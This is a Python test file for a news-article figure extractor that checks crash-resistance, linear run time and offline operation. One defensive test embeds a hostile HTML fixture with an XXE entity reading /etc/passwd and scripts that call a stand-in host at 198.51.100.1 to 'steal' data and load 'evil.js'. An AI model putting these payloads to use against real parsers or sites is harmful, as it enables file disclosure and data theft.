"""Hostile and pathological input: no crash, spans that point at the text, sane intervals,
linear time, no network."""
from __future__ import annotations

import io
import math
import socket
import sys
import time

import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import analysis

from .conftest import ROOT

QUALIFIERS = ["", "up to ", "at least ", "about ", "more than ", "nearly ", "as many as ", "between 5 and "]
NUMBERS = ["6", "23", "1,000", "12,000", "1.5 million", "six", "twenty-three", "two hundred", "11 to 12,000"]
NOUNS = ["people were killed", "soldiers", "North Korean troops", "tanks", "kilometres", "square miles",
         "villages", "civilians were injured", "prisoners of war", "brigades", "days of war"]
CONTEXT = ["Russian forces advanced", "The governor said", "An attack on Kharkiv on Tuesday left", "Pyongyang sent",
           "According to the Pentagon,", "Ukraine's General Staff said Russia lost", ""]

figure_sentences = st.builds(
    lambda c, q, n, noun, tail: f"{c} {q}{n} {noun}{tail}".strip(),
    st.sampled_from(CONTEXT), st.sampled_from(QUALIFIERS), st.sampled_from(NUMBERS), st.sampled_from(NOUNS),
    st.sampled_from([".", ", officials said.", " (3 miles).", " on Sunday.", "; 12 were hurt."]))


def _check_invariants(text: str, figures: pd.DataFrame) -> None:
    assert list(figures.columns) == list(analysis.FIGURE_COLUMNS)
    for row in figures.itertuples():
        assert text[row.start:row.end] == row.text
        for low, high in ((row.low, row.value), (row.value, row.high), (row.low, row.high)):
            if not (math.isnan(low) or math.isnan(high)):
                assert low <= high
        assert row.measure in analysis.MEASURES


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=400))
def test_random_unicode_never_crashes_and_spans_point_at_the_text(text):
    _check_invariants(text, analysis.extract_figures(text, published="2024-11-05"))


@settings(max_examples=150, deadline=None)
@given(st.lists(figure_sentences, min_size=1, max_size=6))
def test_generated_figure_sentences_keep_every_invariant(sentences):
    text = " ".join(sentences)
    figures = analysis.extract_figures(text, published="2024-11-05")
    _check_invariants(text, figures)
    pd.testing.assert_frame_equal(figures, analysis.extract_figures(text, published="2024-11-05"))


def _seconds(text: str) -> float:
    best = math.inf
    for _ in range(2):
        started = time.process_time()  # this process's CPU time: other work on the machine does not count
        analysis.extract_figures(text)
        best = min(best, time.process_time() - started)
    return best


@pytest.mark.slow  # a wall-clock check: see pyproject's markers
@pytest.mark.parametrize(("name", "make"), [
    ("long article", lambda n: "Russian strikes killed 12 civilians in Kharkiv, the governor said. " * (n // 60)),
    ("one huge number", lambda n: "Russia lost " + "9" * n + " tanks."),
    ("1,1,1 runs", lambda n: "Casualties: " + "1," * (n // 2) + " soldiers."),
    ("nested parentheses", lambda n: "(" * (n // 2) + "5 tanks" + ")" * (n // 2)),
    ("a line of 'up to'", lambda n: "up to " * (n // 6) + "12,000 troops"),
    ("no sentence ends", lambda n: "and 5 tanks " * (n // 12)),
    ("quotes that never close", lambda n: "“Six died, " * (n // 11)),
])
def test_pathological_input_runs_in_linear_time(name, make):
    small, large = make(40_000), make(80_000)
    _seconds(small[:1000])  # warm up
    ratio = _seconds(large) / max(_seconds(small), 1e-3)
    assert ratio < 3.0, f"{name}: doubling the input took {ratio:.1f}x as long"


def _lines_run(text: str) -> int:
    """How many lines of the package's code extracting ``text`` runs: a measure of work that, unlike a
    clock, does not depend on how busy the machine is (regex backtracking inside C is not counted:
    the wall-clock tests above cover it)."""
    count = 0
    package = str(ROOT / "analysis")

    def tracer(frame, event, arg):
        nonlocal count
        if not frame.f_code.co_filename.startswith(package):
            return None
        if event == "line":
            count += 1
        return tracer

    sys.settrace(tracer)
    try:
        analysis.extract_figures(text, published="2024-11-05")
    finally:
        sys.settrace(None)
    return count


# The sentence units of which long articles are made: each refers to what comes before it
# (a claimant, a list, a part of a whole), the ways a stage could go back over the whole text.
LINKED_UNITS = st.sampled_from([
    "The ministry said. 7 drones. ",
    "Some 12 people, 5 of them children, ",
    "5 of whom ",
    "5 of ",
    "“Six died, ",
    "Kyiv said on Monday that 40 soldiers were lost. It added 12 tanks. ",
    "In Kharkiv 5 died; in Sumy, 3 were hurt. ",
])


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(LINKED_UNITS, min_size=1, max_size=3), st.sampled_from(CONTEXT))
@example(["The ministry said. 7 drones. "], "")  # each figure's claimant in the sentence before
@example(["5 of whom "], "")  # each part looks back for its whole: only to the few counts just before
def test_work_grows_linearly_with_the_text(units, opening):
    unit = opening + " " + "".join(units)
    _lines_run(unit * 5 + "soldiers.")  # warm up (the gazetteer, memoised words)
    # (both past MAX_READING_DEPTH, where a chain of parts stops being followed)
    small, large = _lines_run(unit * 50 + "soldiers."), _lines_run(unit * 200 + "soldiers.")
    assert large <= 5 * small, f"4x the text ran {large / small:.1f}x the lines: {unit!r}"


def test_a_nul_inside_a_figure_keeps_its_span_pointing_at_the_text():
    text = "Officials said at least\x00 twenty-three people were killed."
    figures = analysis.extract_figures(text)
    assert figures["text"].tolist() == ["at least\x00 twenty-three"]
    _check_invariants(text, figures)


def test_a_lone_surrogate_is_kept_as_a_replacement_character():
    text = "Six people were killed \ud83d in the attack."
    figures = analysis.extract_figures(text)
    assert figures["value"].tolist() == [6.0] and "\ufffd" in figures["sentence"].iloc[0]
    figures.to_parquet(io.BytesIO())  # a table can hold it


def test_a_million_digit_number_is_not_a_figure():
    assert analysis.extract_figures("Russia lost " + "9" * 1_000_000 + " tanks.").empty


def test_nul_bytes_and_control_characters(tmp_path):
    (tmp_path / "nul.txt").write_bytes(b"Six people were killed.\x00\x00 Twelve were injured.")
    articles = analysis.read_articles(tmp_path)
    assert articles.error.notna().all()  # NUL bytes mean binary: reported, not parsed
    figures = analysis.extract_figures("Six people were killed.\x00\x07\x1b Twelve were injured.")
    assert figures.value.tolist() == [6.0, 12.0]


def test_a_folder_of_10000_files(tmp_path):
    for i in range(10_000):
        (tmp_path / f"a{i:05d}.txt").write_text(f"{i % 50 + 1} people were killed.", encoding="utf-8")
    articles = analysis.read_articles(tmp_path)
    assert len(articles) == 10_000 and articles.error.isna().all()


def test_html_with_scripts_and_external_entities_is_neither_run_nor_fetched(tmp_path, monkeypatch):
    page = """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://198.51.100.1/x">]>
<html><head><title>Strike</title><script>fetch('http://198.51.100.1/steal')</script>
<script src="http://198.51.100.1/evil.js"></script></head>
<body><article><p>A Russian missile strike on Sumy killed 34 people, the regional governor said on Sunday.</p>
<p>&xxe; &remote; More than 117 people were injured in the attack on the city centre.</p>
<p>Rescuers worked through the night at the scene of the strike in the city.</p></article></body></html>"""
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    _block_network(monkeypatch)
    row = analysis.read_articles(tmp_path).iloc[0]
    text = row.text or ""
    assert "root:" not in text and "fetch(" not in text


def _block_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_the_whole_pipeline_runs_without_network(monkeypatch, tmp_path):
    _block_network(monkeypatch)
    figures, errors = analysis.extract_with_errors(ROOT / "data/articles")
    assert len(figures) > 100 and errors.empty
    from analysis.io.cli import main

    assert main(["extract", str(ROOT / "data/articles"), "-o", str(tmp_path / "f.parquet"), "--no-progress"]) == 0
